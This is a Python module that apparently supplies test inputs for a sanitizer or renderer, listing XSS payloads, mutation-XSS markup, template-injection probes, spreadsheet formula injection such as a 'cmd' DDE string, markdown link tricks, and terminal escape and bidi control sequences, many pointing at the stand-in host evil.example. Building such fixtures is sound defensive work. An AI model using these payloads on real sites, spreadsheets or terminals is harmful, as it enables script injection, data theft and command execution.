"""Texts that try to become markup, script, a link, a formula or a command to the terminal."""

from __future__ import annotations

_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onbegin", "onanimationstart")
_TAGS = ("img", "svg", "body", "details", "video", "input", "math", "marquee", "iframe", "object", "animate")
_QUOTES = ("", "'", '"', "`", "'>", '">', '"/>', "-->", "]]>")
_SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)"),
    *(" javascript:alert(1)", "javascript&#58;alert(1)", "data:text/html,<script>alert(1)</script>"),
    *("vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/x", "blob:https://evil.example/1"),
    *("https://good.example@evil.example/", 'https://evil.example/" onclick=alert(1) x="', "http:evil.example"),
    *(
        "https://evil.example/\u202egpj",
        "https://[bad",
        "ftp://evil.example/",
        "https://evil.example/a b",
        "https:///x",
    ),
)
_CLOSING = ("title", "style", "script", "textarea", "svg", "desc", "blockquote", "template", "noscript", "head")
_TEMPLATE = (
    *("{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ config.items() }}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
    *("{{ ''.__class__.__mro__ }}", "{%raw%}", "{{ report }}", "%s %(x)s", "{0} {x}"),
)
_MUTATION = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\">",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<table><td background=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>x</button>",
    "<embed src=//evil.example>",
    "<plaintext>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<?xml-stylesheet href='//evil.example'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img/src=x/onerror=alert(1)>",
    "<ScRiPt src=//evil.example></ScRiPt>",
)
_MARKDOWN = (
    *("![x](//evil.example/x.png)", "[x](javascript:alert(1))", "[x]: //evil.example", "![x][y]", "<//evil.example>"),
    *("<https://evil.example>", "```\ncode", "~~~", "# heading", "1. list", "- list", "+ list", "> quote", "| a | b |"),
    *("***", "===", "@everyone", "$x$", "https://evil.example/auto", "www.evil.example", "__init__", "\\<b\\>"),
)
_FORMULAS = (
    *("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "''=1", "=HYPERLINK(1)"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", '"=1+1', '=1+1"", "x', "\n=1+1", "|calc", "%x"),
)
_CONTROL = (
    *("\x1b[2Jgone", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;file:///etc/passwd\x1b\\x", "\x9b31mred", "\x9d0;t\x9c"),
    *("a\x00b", "a\x07b", "a\x08b", "a\x7fb", "one\r\ntwo", "a\x0bb", "a\x0cb", "a\x1eb", "a\x85b", "a\u2028b"),
    *("\u202eabc\u202c", "\u2066abc\u2069", "\u061cabc", "\u200fabc", "zero\u200bwidth", "\ufeffbom", "tag\U000e0041"),
    *("lone \ud800 half", "\udfff", "z" + "\u0301" * 300, "\x0e\x0f", "a\x1b", "\x90q\x9c", "\U0010ffff", "\ue000"),
)

PAYLOADS = (
    *(
        f"{quote}<{tag} {handler}=alert(1) src=//evil.example/x>"
        for tag in _TAGS[:6]
        for handler, quote in zip(_HANDLERS, _QUOTES, strict=False)
    ),
    *(f"{quote} autofocus onfocus=alert(1) x={quote}" for quote in _QUOTES),
    *(f"</{tag}><script>alert(1)</script>" for tag in _CLOSING),
    *(f"<{tag} href=javascript:alert(1)>" for tag in _TAGS),
    *(_SCHEMES + _TEMPLATE + _MUTATION + _MARKDOWN + _FORMULAS + _CONTROL),
)
